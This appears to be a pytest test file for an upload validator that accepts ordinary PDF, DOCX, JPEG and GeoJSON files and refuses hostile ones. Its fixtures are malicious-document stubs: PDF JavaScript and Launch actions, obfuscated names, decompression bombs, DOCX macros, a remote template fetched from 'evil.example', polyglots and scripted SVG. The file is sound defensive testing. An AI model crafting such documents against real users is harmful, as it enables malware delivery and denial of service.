"""Documents that people send: what runs, hides or grows is refused in words."""

from __future__ import annotations

import io
import zipfile
import zlib

import pytest
from docx import Document
from PIL import Image

from fss.errors import RuleError
from fss.files.papers import check_paper
from fss.files.rules import Kind


def pdf(*objects: bytes) -> bytes:
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % pair for pair in enumerate(objects, 1))
    return b"%PDF-1.7\n" + body + b"trailer << /Root 1 0 R >>\n%%EOF\n"


def packed(objects: bytes, extra: bytes = b"") -> bytes:
    data = zlib.compress(objects)
    head = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d %s>>" % (
        len(data),
        extra,
    )
    return pdf(b"<< /Type /Catalog >>", head + b"\nstream\n" + data + b"\nendstream")


def docx(**parts: bytes) -> bytes:
    made = io.BytesIO()
    Document().save(made)
    with zipfile.ZipFile(made, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), data)
    return made.getvalue()


def picture() -> bytes:
    made = io.BytesIO()
    Image.new("RGB", (8, 8)).save(made, "JPEG")
    return made.getvalue()


GEOJSON = b'{"type": "Point", "coordinates": [-93.5, 44.6]}'


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (pdf(b"<< /Type /Catalog /OpenAction [3 0 R /Fit] >>"), Kind.PDF),
        (packed(b"1 0 << /Type /Page >>"), Kind.PDF),
        (docx(), Kind.DOCX),
        (picture(), Kind.JPEG),
        (GEOJSON, Kind.GEOJSON),
    ],
)
def test_what_only_shows_something_comes_in(data: bytes, kind: Kind) -> None:
    assert check_paper(data, name="any.geojson") is kind


RELATION = (
    b'<Relationships><Relationship Id="r1" Type="http://schemas/attachedTemplate" '
    b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("data", "told"),
    [
        (b"", "empty"),
        (b"%PDF-1.7\nno end", "not complete"),
        (pdf(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), "a script"),
        (pdf(b"<< /S /Java#53cript >>"), "a script"),
        (packed(b"1 0 << /S /JavaScript /JS (x) >>"), "a script"),
        (packed(b"1 0 << /S /Launch >>"), "starts a program"),
        (pdf(b"<< /Type /EmbeddedFile >>"), "other files"),
        (pdf(b"<< /Encrypt 5 0 R >>"), "protected"),
        (pdf(b"<< /Type /Obj#53tm >>"), "cannot be checked"),
        (packed(b"x", b"/DecodeParms << /Predictor 12 >> "), "cannot be checked"),
        (packed(b"\0" * 70_000_000), "far too large"),
        (docx(word__vbaProject_dot_bin=b"x"), "macros"),
        (docx(word__embeddings__one_dot_bin=b"x"), "holds a program"),
        (docx(word___rels__settings_dot_xml_dot_rels=RELATION), "from elsewhere"),
        (docx(word__media__bomb_dot_png=b"\0" * 60_000_000), "far too large"),
        (docx() + b"<script>alert(1)</script>", "two kinds"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'><script>x</script></svg>", "cannot tell"),
        (b"<!-- x --><svg onload='x'/>", "Choose"),
        (b"MZ\x90\x00\x03\x00\x00", "cannot tell"),
        (b"GIF89a/*<script>*/", "Choose"),
    ],
)
def test_what_runs_hides_or_grows_is_refused_in_words(data: bytes, told: str) -> None:
    with pytest.raises(RuleError) as refused:
        check_paper(data, name="harmless.pdf")

    assert told in refused.value.message


def test_a_pdf_that_is_an_archive_too_is_refused() -> None:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as made:
        made.writestr("x.exe", b"MZ")

    with pytest.raises(RuleError, match="two kinds"):
        check_paper(pdf(archive.getvalue()))
